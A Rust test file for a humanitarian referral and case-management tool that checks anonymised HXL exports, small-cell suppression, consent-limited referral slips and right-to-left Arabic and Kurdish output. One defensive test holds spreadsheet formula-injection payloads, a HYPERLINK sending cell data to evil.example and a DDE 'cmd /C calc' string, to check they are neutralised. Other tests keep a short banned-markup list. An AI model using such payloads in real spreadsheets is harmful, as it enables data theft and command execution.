//! Coordination exports and the report: HXL rows, no personal data, generalised rows,
//! small cells suppressed, one self-contained HTML page.

use daleel::i18n::Lang;
use daleel::i18n::format::{Digits, Locale};
use daleel::model::{Household, Need, Referral};
use daleel::report::export::{Detail, Table, write};
use daleel::report::summary::{By, build};
use daleel::report::{html, valid_hxl_row};

use crate::common;
use common::device::Device;

fn demo() -> Device {
    let d = Device::new();
    daleel::demo::generate(&d.ws.store, 300, 7, |_| {}).expect("demo");
    d
}

/// The rows of a table from a demo database without its first column, which says DEMO
/// on every row (checked here).
fn undemo(mut rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
    for (i, r) in rows.iter_mut().enumerate() {
        let wanted = match i {
            0 => "demo",
            1 => "#meta+demo",
            _ => "DEMO",
        };
        assert_eq!(r[0], wanted, "row {i} of a demo table: {r:?}");
        r.remove(0);
    }
    rows
}

use common::csv_rows as lines;

#[test]
fn exports_carry_hxl_and_no_personal_data_and_are_generalised() {
    let d = demo();
    let households: Vec<Household> =
        d.ws.store
            .all::<Household>()
            .map(|h| h.expect("h"))
            .collect();
    for table in [Table::Needs, Table::Referrals, Table::Services] {
        let (sheet, rows) = write(&d.ws.store, table, Detail::default()).expect("export");
        let bytes = sheet.csv(false).expect("csv");
        let all = undemo(lines(&bytes));
        assert_eq!(all.len(), rows + 2, "header, hashtags, rows");
        let tags: Vec<&str> = all[1].iter().map(String::as_str).collect();
        assert!(valid_hxl_row(&tags), "{tags:?}");
        let text = String::from_utf8(bytes.clone()).expect("utf-8");
        for h in &households {
            for personal in [&h.head.name, &h.phone, &h.case_code, &h.location.village] {
                if personal.chars().count() > 3 {
                    assert!(!text.contains(personal.as_str()), "{personal} in {table:?}");
                }
            }
        }
        if table != Table::Services {
            // Months, not days; governorates, not districts.
            assert!(
                all[2..]
                    .iter()
                    .all(|r| r[0].len() == 7 && r[0].as_bytes()[4] == b'-')
            );
            assert!(!all[0].iter().any(|c| c.starts_with("district")));
            assert!(
                tags.iter()
                    .any(|t| t.starts_with("#adm1") && t.contains("+i_ar"))
            );
        }
    }
    // Needs do not carry their free text.
    let (sheet, _) = write(&d.ws.store, Table::Needs, Detail::default()).expect("export");
    let text = String::from_utf8(sheet.csv(false).expect("csv")).expect("utf-8");
    let need: Need = d.ws.store.all::<Need>().next().expect("a need").expect("n");
    assert!(!text.contains(&need.description));
}

#[test]
fn the_detailed_export_is_for_coordinators_and_is_audited() {
    let d = demo();
    let detail = Detail {
        district: true,
        case_codes: true,
        sensitive: false,
    };
    let (sheet, _) = write(&d.ws.store, Table::Referrals, detail).expect("export");
    let all = lines(&sheet.csv(false).expect("csv"));
    assert!(all[0].contains(&"district_pcode".to_string()));
    assert!(all[0].contains(&"case_code".to_string()));
    let trail = d.ws.store.audit_trail(None).expect("audit");
    assert!(
        trail
            .iter()
            .any(|e| e.what == "referrals export, with districts, with case codes"),
        "{trail:?}"
    );
}

#[test]
fn the_report_suppresses_small_cells_and_prints_as_one_page() {
    let d = demo();
    let since = daleel::model::Date::parse("2020-01-01").expect("d");
    let until = d.ws.store.now().date();
    let report = build(
        &d.ws.store,
        since,
        until,
        &[By::Sector, By::Governorate],
        false,
    )
    .expect("report");
    let (header, tags, rows) = report.table();
    assert_eq!(header.len(), tags.len());
    assert!(valid_hxl_row(
        &tags.iter().map(String::as_str).collect::<Vec<_>>()
    ));
    // sector, governorate P-code and name; the counts and the median; the hidden ones.
    assert_eq!(header[..3], ["sector", "governorate_pcode", "governorate"]);
    assert_eq!(header[header.len() - 1], "suppressed");
    let counts = 3..header.len() - 1;
    let mut small = 0;
    for r in &rows {
        let hidden: Vec<&str> = r[r.len() - 1]
            .split(',')
            .filter(|c| !c.is_empty())
            .collect();
        for (i, cell) in r[counts.clone()].iter().enumerate() {
            let column = header[counts.start + i].as_str();
            if cell.is_empty() {
                assert!(
                    hidden.contains(&column) || column == "median_days_to_response",
                    "{column} empty in {r:?} but not named"
                );
                small += 1;
            } else {
                let n: f64 = cell.parse().expect("a number");
                // A median of five answers or more may be any number of days.
                let count = column != "median_days_to_response";
                assert!(!count || n == 0.0 || n >= 5.0, "{cell} shown in {r:?}");
                assert!(!hidden.contains(&column));
            }
        }
    }
    assert!(
        small > 0,
        "a 300-household caseload split by sector and governorate has small cells"
    );
    // Every referral of the period is counted once.
    let referrals: u64 = report
        .groups
        .values()
        .map(|c| c.referrals.values().sum::<u64>())
        .sum();
    let held = d.ws.store.all::<Referral>().count() as u64;
    assert_eq!(referrals, held);
    let page = html::page(&report, Locale::new(Lang::En, Digits::Western));
    assert!(page.contains("<svg") && page.contains("<table"));
    for banned in ["<script", "src=", "href=", "@import", "url("] {
        assert!(!page.contains(banned), "{banned}");
    }
}

#[test]
fn a_referral_slip_shows_only_what_the_household_consented_to_share() {
    use daleel::model::{DisclosedField, Priority, Sector, Timestamp, sample};
    use daleel::store::Edit;
    let d = Device::new();
    let mut h = common::household("Sentinel Head");
    h.phone = "0770 999 8888".into();
    h.location.village = "Sentinel Village".into();
    if let Some(c) = h.consent.as_mut() {
        c.disclosure = true;
    }
    d.save(&[Edit::Household(h.clone())]);
    let h: Household = d.get(h.id);
    let service = sample::directory().services[0].clone();
    let need = Need {
        id: uuid::Uuid::now_v7(),
        household: h.id,
        sector: Sector::Protection,
        description: "Sentinel need text".into(),
        priority: Priority::Urgent,
        created_at: Timestamp(common::NOW),
        created_by: "w".into(),
        ..Need::default()
    };
    let r = Referral {
        id: uuid::Uuid::now_v7(),
        household: h.id,
        need: need.id,
        service: service.id,
        organization: service.organization,
        referring_org: "CRC Mosul".into(),
        priority: Priority::Urgent,
        reason: "Sentinel reason".into(),
        disclosed: [DisclosedField::HeadName].into(),
        created_at: Timestamp(common::NOW),
        created_by: "Amal".into(),
        ..Referral::default()
    };
    d.save(&[Edit::Need(need), Edit::Referral(r.clone())]);
    let page = daleel::report::slip::slip(&d.ws.store, r.id).expect("slip");
    assert!(page.contains("Sentinel Head") && page.contains("Sentinel reason"));
    assert!(page.contains(&h.case_code) && page.contains(&r.id.to_string()));
    for absent in ["0770 999 8888", "Sentinel Village", "Sentinel need text"] {
        assert!(!page.contains(absent), "{absent}");
    }
    for banned in ["<script", "src=", "href="] {
        assert!(!page.contains(banned));
    }
    // Consent to share withdrawn: the case code alone.
    d.edit_household("w", h.id, 10, |h| {
        if let Some(c) = h.consent.as_mut() {
            c.disclosure = false;
        }
    });
    let page = daleel::report::slip::slip(&d.ws.store, r.id).expect("slip");
    assert!(!page.contains("Sentinel Head") && !page.contains("Sentinel reason"));
    assert!(page.contains("did not consent"));
    let trail = d.ws.store.audit_trail(Some(&h.case_code)).expect("audit");
    assert_eq!(
        trail.iter().filter(|e| e.what == "referral slip").count(),
        2
    );
}

/// Whether a spreadsheet would run a cell as a formula.
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn a_poisoned_directory_reaches_no_csv_as_a_formula_and_imports_back_whole() {
    use daleel::directory::{self, hsds, sheet};
    use daleel::store::Edit;
    let d = demo();
    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    let referral: Referral =
        d.ws.store
            .all::<Referral>()
            .map(|r| r.expect("r"))
            .next()
            .expect("a referral");
    let mut org =
        d.ws.store
            .organization(referral.organization)
            .expect("read")
            .expect("its organization");
    org.name = hyperlink.into();
    org.acronym = sum.into();
    let mut service =
        d.ws.store
            .service(referral.service)
            .expect("read")
            .expect("its service");
    service.name = "-2+3".into();
    service.description = "+1 day".into();
    service.hours = "\tSun-Thu".into();
    d.save(&[
        Edit::Organization(org.clone()),
        Edit::Service(service.clone()),
    ]);

    let since = daleel::model::Date::parse("2020-01-01").expect("d");
    let until = d.ws.store.now().date();
    let report = build(&d.ws.store, since, until, &[By::Org], false).expect("report");
    let hsds_dir = tempfile::tempdir().expect("hsds");
    hsds::write(&d.ws.store, hsds_dir.path()).expect("hsds");
    let mut csvs: Vec<(String, Vec<u8>)> = vec![
        ("report".into(), report.csv(true).expect("csv")),
        (
            "services template".into(),
            sheet::write(&d.ws.store).expect("sheet"),
        ),
    ];
    for table in [Table::Needs, Table::Referrals, Table::Services] {
        let (table_sheet, _) = write(&d.ws.store, table, Detail::default()).expect("export");
        csvs.push((
            format!("{table:?} export"),
            table_sheet.csv(false).expect("csv"),
        ));
    }
    for f in ["organizations.csv", "services.csv", "schedules.csv"] {
        csvs.push((
            f.into(),
            std::fs::read(hsds_dir.path().join(f)).expect("read"),
        ));
    }
    for (what, bytes) in &csvs {
        let all = lines(bytes);
        for row in &all {
            for cell in row {
                assert!(
                    !formula(cell) || cell.parse::<f64>().is_ok(),
                    "{what}: {cell:?} would run as a formula"
                );
            }
        }
    }
    let text = |what: &str| {
        let bytes = &csvs.iter().find(|(w, _)| w == what).expect(what).1;
        lines(bytes).concat()
    };
    for (what, wanted) in [
        ("report", vec![format!("'{sum}")]),
        ("Referrals export", vec![format!("'{sum}")]),
        ("Services export", vec![format!("'{sum}"), "'-2+3".into()]),
        (
            "services template",
            vec![
                format!("'{hyperlink}"),
                format!("'{sum}"),
                "'-2+3".into(),
                "'+1 day".into(),
            ],
        ),
        (
            "organizations.csv",
            vec![format!("'{hyperlink}"), format!("'{sum}")],
        ),
        ("services.csv", vec!["'-2+3".into(), "'+1 day".into()]),
        ("schedules.csv", vec!["'\tSun-Thu".into()]),
    ] {
        let cells = text(what);
        for w in wanted {
            assert!(cells.contains(&w), "{what}: {w:?} not in {cells:?}");
        }
    }
    // The numbers of the report and of the referrals export are numbers still.
    let report_rows = undemo(lines(&csvs[0].1));
    assert!(report_rows[2..].iter().all(|r| {
        r[1..r.len() - 2]
            .iter()
            .all(|c| c.parse::<u64>().is_ok() || c.is_empty())
    }));
    let referrals = lines(
        &csvs
            .iter()
            .find(|(w, _)| w == "Referrals export")
            .expect("r")
            .1,
    );
    let days = referrals[0]
        .iter()
        .position(|c| c == "days_to_response")
        .expect("column");
    assert!(
        referrals[2..]
            .iter()
            .any(|r| r[days].parse::<u64>().is_ok())
    );

    // Daleel's own files come back as they were: the HSDS folder and the spreadsheet.
    let e = Device::new();
    let incoming = hsds::read(hsds_dir.path(), &e.ws.store.gazetteer()).expect("read");
    let p = directory::preview(&e.ws.store, incoming).expect("preview");
    directory::apply(&e.ws.store, "c", p).expect("apply");
    assert_eq!(
        e.ws.store.organization(org.id).expect("r"),
        Some(org.clone())
    );
    assert_eq!(
        e.ws.store.service(service.id).expect("r"),
        Some(service.clone())
    );
    let sheet_path = hsds_dir.path().join("daleel-services.csv");
    std::fs::write(&sheet_path, &csvs[1].1).expect("write");
    let f = Device::new();
    let known = f.ws.store.organizations().expect("o");
    let incoming = sheet::read(&sheet_path, &f.ws.store.gazetteer(), &known).expect("read");
    assert!(incoming.problems.is_empty(), "{:#?}", incoming.problems);
    let p = directory::preview(&f.ws.store, incoming).expect("preview");
    directory::apply(&f.ws.store, "c", p).expect("apply");
    let back =
        f.ws.store
            .service(service.id)
            .expect("r")
            .expect("the service");
    assert_eq!(back, service);
    let back_org = f.ws.store.organization(org.id).expect("r").expect("org");
    assert_eq!((back_org.name, back_org.acronym), (org.name, org.acronym));
}

/// The words a page shows to a reader: its style sheet, its tags and what comes from the
/// data (isolated in `<bdi>`) taken out.
fn visible_labels(page: &str) -> String {
    let mut text = page.to_string();
    for (open, close) in [("<style>", "</style>"), ("<bdi", "</bdi>"), ("<", ">")] {
        while let Some(start) = text.find(open) {
            let Some(len) = text[start..].find(close) else {
                break;
            };
            text.replace_range(start..start + len + close.len(), " ");
        }
    }
    text.replace("&lt;", "<").replace("&amp;", "&")
}

/// The English words of the catalog's messages whose id starts with one of `prefixes`
/// (each message's text between its placeables), where the language's own differs.
fn english_words(lang: Lang, prefixes: &[&str]) -> Vec<(String, String)> {
    use daleel::i18n::{Arg, ids, tr_in};
    let mut out = Vec::new();
    for id in ids() {
        if !prefixes.iter().any(|p| id.starts_with(p)) {
            continue;
        }
        let args: Vec<(&str, Arg)> = ["date", "share", "code", "since", "until", "small", "groups"]
            .iter()
            .map(|n| (*n, Arg::Str("\u{1}")))
            .collect();
        let english = tr_in(Lang::En, &id, &args);
        if english == tr_in(lang, &id, &args) {
            continue; // the same in both (GBV, WASH…)
        }
        for fragment in english.split('\u{1}') {
            let fragment = fragment.trim_matches(|c: char| !c.is_alphanumeric());
            if fragment.chars().filter(char::is_ascii_alphabetic).count() >= 3 {
                out.push((id.clone(), fragment.to_string()));
            }
        }
    }
    assert!(out.len() > 20, "{out:?}");
    out
}

/// A household that consented to share everything, referred for legal help.
fn shared_referral(d: &Device) -> (Household, Referral) {
    use daleel::model::{DisclosedField, Priority, Sector, Timestamp, Vulnerability, sample};
    use daleel::store::Edit;
    let mut h = common::household("ليلى حسن");
    h.phone = "0770 123 4567".into();
    h.location.village = "الحمدانية".into();
    h.vulnerabilities = [Vulnerability::FemaleHeaded, Vulnerability::Disability]
        .into_iter()
        .collect();
    h.members = vec![
        daleel::model::Person::new(uuid::Uuid::now_v7(), "سارة"),
        daleel::model::Person::new(uuid::Uuid::now_v7(), "علي"),
    ];
    if let Some(c) = h.consent.as_mut() {
        c.disclosure = true;
    }
    d.save(&[Edit::Household(h.clone())]);
    let h: Household = d.get(h.id);
    let service = sample::directory().services[0].clone();
    let need = Need {
        id: uuid::Uuid::now_v7(),
        household: h.id,
        sector: Sector::Hlp,
        description: "البيت مشغول".into(),
        priority: Priority::Urgent,
        created_at: Timestamp(common::NOW),
        created_by: "w".into(),
        ..Need::default()
    };
    let r = Referral {
        id: uuid::Uuid::now_v7(),
        household: h.id,
        need: need.id,
        service: service.id,
        organization: service.organization,
        referring_org: "CRC Mosul".into(),
        priority: Priority::Urgent,
        reason: "يحتاج مساعدة قانونية".into(),
        disclosed: DisclosedField::ALL.iter().copied().collect(),
        created_at: Timestamp(common::NOW),
        created_by: "Amal".into(),
        ..Referral::default()
    };
    d.save(&[Edit::Need(need), Edit::Referral(r.clone())]);
    (h, r)
}

/// The slip in Arabic and Kurdish (issue 17): right to left, every label in the
/// language, the date with its month's name, numbers in the digits setting; codes keep
/// their Western digits, laid out left to right.
#[test]
fn the_arabic_and_kurdish_slips_read_right_to_left_in_their_language() {
    use daleel::i18n::labels;
    use daleel::report::slip::{Centre, slip_in};
    let d = Device::new();
    let (h, r) = shared_referral(&d);
    let day = daleel::model::Timestamp(common::NOW).date();
    for lang in [Lang::Ar, Lang::Ckb] {
        let locale = Locale::new(lang, Digits::ArabicIndic);
        let page = slip_in(&d.ws.store, r.id, locale, &Centre::default()).expect("slip");
        assert!(
            page.contains(&format!("<html lang=\"{}\" dir=\"rtl\">", lang.code())),
            "{}",
            &page[..200]
        );
        let shown = visible_labels(&page);
        for (id, english) in
            english_words(lang, &["slip-", "sector-", "priority-", "vuln-", "month-"])
        {
            assert!(
                !shown.contains(&english),
                "{}: {id}: {english:?} on the page:\n{shown}",
                lang.code()
            );
        }
        // The labels of the values, in the language.
        for label in [
            labels::sector_in(lang, daleel::model::Sector::Hlp),
            labels::priority_in(lang, daleel::model::Priority::Urgent),
            labels::vulnerability_in(lang, daleel::model::Vulnerability::Disability),
        ] {
            assert!(shown.contains(&label), "{label} not on the page");
        }
        // The date with the month's name and Arabic-Indic digits; no Western digit in
        // any label or value but the codes.
        let date = locale.date(day);
        assert!(date.contains('٢') && shown.contains(&date), "{date}");
        assert!(shown.contains("٣"), "three people, in Arabic-Indic digits");
        assert!(!shown.chars().any(|c| c.is_ascii_digit()), "{shown}");
        // The place by its Arabic name (Kurdish too: the gazetteer has no Kurdish names).
        assert!(page.contains("<bdi>نينوى</bdi>"));
        // Codes: Western digits, left to right.
        for code in [&h.case_code, &h.phone, &r.id.to_string()] {
            assert!(
                page.contains(&format!("<bdi dir=\"ltr\">{code}</bdi>")),
                "{code}"
            );
        }
        // The consent statement is the language's.
        let consent = daleel::i18n::tr_in(lang, "slip-consent-share", &[]);
        assert!(shown.contains(&consent), "{consent}");
    }
    // With Western digits, the same date has Western digits.
    let western = slip_in(
        &d.ws.store,
        r.id,
        Locale::new(Lang::Ar, Digits::Western),
        &Centre::default(),
    )
    .expect("s");
    assert!(western.contains(&Locale::new(Lang::Ar, Digits::Western).date(day)));
    assert!(
        Locale::new(Lang::Ar, Digits::Western)
            .date(day)
            .contains("2026")
    );
    // English stays left to right.
    let english = slip_in(
        &d.ws.store,
        r.id,
        Locale::new(Lang::En, Digits::ArabicIndic),
        &Centre::default(),
    )
    .expect("slip");
    assert!(english.contains("<html lang=\"en\" dir=\"ltr\">"));
    assert!(english.contains("November 2026") && english.contains("Ninewa"));
}

/// The slip a caseworker can use on paper (issue 18, item 8): the date to answer by,
/// the referring centre's name and phone (config.toml's, else a line to write them
/// in), and lines for the client's signature or thumbprint and the referrer's.
#[test]
fn the_slip_on_paper_has_the_answer_date_both_contacts_and_signature_lines() {
    use daleel::report::slip::{Centre, slip_in};
    let d = Device::new();
    let (_, r) = shared_referral(&d);
    let locale = Locale::new(Lang::En, Digits::Western);
    let due = r.priority.due_from(r.created_at).date();
    let centre = Centre {
        name: "CRC Mosul (IOM)".into(),
        phone: "0750 111 2222".into(),
    };
    let page = slip_in(&d.ws.store, r.id, locale, &centre).expect("slip");
    let shown = visible_labels(&page);
    let at = page
        .find("Please answer by")
        .unwrap_or_else(|| panic!("no date to answer by:\n{shown}"));
    let answer = &page[at..at + 80];
    assert!(answer.contains(&locale.date(due)), "{answer}");
    assert_ne!(
        due,
        r.created_at.date(),
        "an urgent referral has days to answer"
    );
    assert!(page.contains("<bdi>CRC Mosul (IOM)</bdi>"), "{page}");
    assert!(page.contains("<bdi dir=\"ltr\">0750 111 2222</bdi>"));
    for line in [
        "Signature or thumbprint of the client",
        "Signature of the referring worker",
    ] {
        assert!(shown.contains(line), "{line}:\n{shown}");
    }
    // No centre set: the laptop's name, and a blank line for the phone.
    let page = slip_in(&d.ws.store, r.id, locale, &Centre::default()).expect("slip");
    assert!(page.contains("<bdi>CRC Mosul</bdi>"));
    assert!(page.contains("<tr class=\"blank\"><th>Phone</th><td></td></tr>"));
}

/// The report in Arabic (issue 17): right to left, headings, captions and column
/// labels in Arabic, groups named in Arabic, counts in the digits setting; its CSV
/// keeps its machine header, HXL row and English values.
#[test]
fn the_arabic_report_reads_right_to_left_with_arabic_names_and_digits() {
    let d = demo();
    let since = daleel::model::Date::parse("2020-01-01").expect("d");
    let until = d.ws.store.now().date();
    let report = build(
        &d.ws.store,
        since,
        until,
        &[By::Sector, By::Governorate],
        false,
    )
    .expect("report");
    let locale = Locale::new(Lang::Ar, Digits::ArabicIndic);
    let page = html::page(&report, locale);
    assert!(page.contains("<html lang=\"ar\" dir=\"rtl\">"));
    let shown = visible_labels(&page);
    for (id, english) in english_words(
        Lang::Ar,
        &[
            "page-report-",
            "need-status-",
            "referral-status-",
            "outcome-",
            "month-",
            "sector-",
        ],
    ) {
        assert!(!shown.contains(&english), "{id}: {english:?} in:\n{shown}");
    }
    for word in ["(none)", "All", "Households", "From ", "both days"] {
        assert!(!page.contains(word), "{word}");
    }
    // Groups by their Arabic names: sectors and governorates.
    assert!(page.contains("نينوى") && !page.contains("Ninewa"));
    assert!(page.contains(&daleel::i18n::tr_in(Lang::Ar, "sector-health", &[])));
    // The period with Arabic month names, and no Western digit anywhere a reader looks.
    assert!(page.contains(&locale.date(since)) && locale.date(since).contains("كانون الثاني"));
    let text = visible_labels(&page.replace("<bdi", "<x").replace("</bdi>", "</x>"));
    assert!(!text.chars().any(|c| c.is_ascii_digit()), "{text}");
    assert!(
        text.contains(html::HIDDEN),
        "hidden counts marked, as the note says"
    );
    // Every table is as wide as the page and wraps its words: nothing is cut off.
    assert!(page.contains("table-layout:fixed") && page.contains("@page{size:A4"));
    assert_eq!(page.matches("<table class=\"data\">").count(), 3);
    // The CSV is the same in every language.
    let csv = undemo(lines(&report.csv(true).expect("csv")));
    assert_eq!(
        csv[0][..4],
        [
            "sector",
            "governorate_pcode",
            "governorate",
            "households_reached"
        ]
    );
    assert!(csv.iter().any(|r| r[1] == "IQG15" && r[2] == "Ninewa"));
    assert!(valid_hxl_row(
        &csv[1].iter().map(String::as_str).collect::<Vec<_>>()
    ));
}

/// `report --lang ar` writes the Arabic page, and `referral slip --lang ckb` the Kurdish
/// slip, with the digits of config.toml; without `--lang`, English.
#[test]
fn report_and_slip_commands_write_the_page_in_the_language_asked() {
    let dir = tempfile::tempdir().expect("dir");
    let out = common::daleel(dir.path(), &["demo", "--households", "30"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::write(
        dir.path().join("config.toml"),
        "digits = \"arabic-indic\"\n",
    )
    .expect("config");
    let pages = tempfile::tempdir().expect("pages");
    let file = |name: &str| pages.path().join(name).to_string_lossy().into_owned();
    let report = |lang: Option<&str>, name: &str| {
        let mut args = vec!["report", "--since", "2020-01-01", "--until", "2030-01-01"];
        let out_file = file(name);
        args.extend(["--out", out_file.as_str()]);
        if let Some(l) = lang {
            args.extend(["--lang", l]);
        }
        let out = common::daleel(dir.path(), &args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read_to_string(file(name)).expect("page")
    };
    let ar = report(Some("ar"), "ar.html");
    assert!(ar.contains("<html lang=\"ar\" dir=\"rtl\">"));
    assert!(ar.contains(&daleel::i18n::tr_in(Lang::Ar, "page-report-title", &[])));
    assert!(
        ar.contains("٢٠٢٠"),
        "the period, in the digits of config.toml"
    );
    let en = report(None, "en.html");
    assert!(en.contains("<html lang=\"en\" dir=\"ltr\">") && en.contains("coordination report"));
    assert!(en.contains("2020") && !en.contains("٢٠٢٠"));

    let list = common::daleel(dir.path(), &["referral", "list", "--json"]);
    let list: serde_json::Value = serde_json::from_slice(&list.stdout).expect("json");
    let id = list[0]["id"].as_str().expect("an id").to_string();
    let slip = file("slip.html");
    let out = common::daleel(
        dir.path(),
        &["--lang", "ckb", "referral", "slip", &id, "--out", &slip],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let page = std::fs::read_to_string(&slip).expect("slip");
    assert!(page.contains("<html lang=\"ckb\" dir=\"rtl\">"));
    assert!(page.contains(&daleel::i18n::tr_in(Lang::Ckb, "slip-title", &[])));
}

/// `export` and `report` write an Excel workbook for `.xlsx` (opened here by a reader
/// crate: the DEMO sheet name and column, the HXL row, numbers as numbers), CSV with a
/// UTF-8 byte-order mark unless `--no-bom`, and refuse any other extension.
#[test]
fn exports_write_workbooks_and_csv_that_excel_reads_and_refuse_other_files() {
    use calamine::{Data, Reader, Xlsx, open_workbook};
    let dir = tempfile::tempdir().expect("dir");
    let run = |args: &[&str]| {
        let out = common::daleel(dir.path(), args);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    };
    run(&["demo", "--households", "40"]);
    let files = tempfile::tempdir().expect("files");
    let file = |name: &str| files.path().join(name).to_string_lossy().into_owned();

    run(&["export", "referrals", "--out", &file("r.xlsx")]);
    run(&["export", "referrals", "--out", &file("r.csv")]);
    run(&[
        "export",
        "referrals",
        "--out",
        &file("plain.csv"),
        "--no-bom",
    ]);
    let with_bom = std::fs::read(file("r.csv")).expect("csv");
    let plain = std::fs::read(file("plain.csv")).expect("csv");
    assert!(with_bom.starts_with(b"\xEF\xBB\xBF"), "a BOM for Excel");
    assert_eq!(&with_bom[3..], plain.as_slice(), "and nothing else differs");
    let csv = lines(&plain);

    let mut book: Xlsx<_> = open_workbook(file("r.xlsx")).expect("a workbook");
    assert_eq!(book.sheet_names(), ["DEMO referrals"]);
    let range = book.worksheet_range("DEMO referrals").expect("the sheet");
    let rows: Vec<&[Data]> = range.rows().collect();
    assert_eq!(rows.len(), csv.len(), "the same rows as the CSV");
    assert_eq!(rows[0][0], Data::String("demo".into()));
    assert_eq!(rows[1][0], Data::String("#meta+demo".into()));
    let days = csv[0]
        .iter()
        .position(|c| c == "days_to_response")
        .expect("column");
    let mut numbers = 0;
    for (row, text) in rows[2..].iter().zip(&csv[2..]) {
        assert_eq!(row[0], Data::String("DEMO".into()));
        match &row[days] {
            Data::Float(n) => {
                assert_eq!(n.to_string(), text[days], "a number, as a number");
                numbers += 1;
            }
            Data::Empty => assert_eq!(text[days], ""),
            other => panic!("days to response {other:?}"),
        }
        // Every text cell holds what the CSV holds (without the formula guard).
        assert_eq!(row[1], Data::String(text[1].clone()));
    }
    assert!(numbers > 0, "some referrals were answered");

    // The report: a workbook too, and to standard output CSV without a BOM.
    run(&[
        "--lang",
        "ar",
        "report",
        "--since",
        "2020-01-01",
        "--until",
        "2030-01-01",
        "--hxl",
        "--out",
        &file("report.xlsx"),
    ]);
    let book: Xlsx<_> = open_workbook(file("report.xlsx")).expect("a workbook");
    assert_eq!(book.sheet_names(), ["DEMO report"]);
    let stdout = run(&["report", "--since", "2020-01-01", "--until", "2030-01-01"]).stdout;
    assert!(stdout.starts_with(b"demo,sector,"), "{:?}", &stdout[..20]);

    // Any other extension is refused, and nothing is written.
    for args in [
        &["export", "needs", "--out"][..],
        &[
            "report",
            "--since",
            "2020-01-01",
            "--until",
            "2030-01-01",
            "--out",
        ][..],
    ] {
        let mut args = args.to_vec();
        let txt = file("needs.txt");
        args.push(&txt);
        let out = common::daleel(dir.path(), &args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let said = String::from_utf8_lossy(&out.stderr);
        assert!(said.contains(".xlsx") && said.contains(".csv"), "{said}");
        assert!(!files.path().join("needs.txt").exists());
    }
}

/// The built-in SAMPLE directory (placeholder phones) never leaves the laptop.
#[test]
fn the_sample_directory_is_never_exported() {
    let d = Device::new();
    let sample =
        d.ws.store
            .services()
            .expect("services")
            .iter()
            .filter(|s| daleel::model::sample::is_sample_id(s.id))
            .count();
    assert!(sample > 0, "a new laptop starts on the SAMPLE directory");
    let (sheet, rows) = write(&d.ws.store, Table::Services, Detail::default()).expect("export");
    assert_eq!(rows, 0);
    assert_eq!(sheet.data_rows(), 0);
    assert!(!sheet.demo, "a real database's export is not marked DEMO");
}
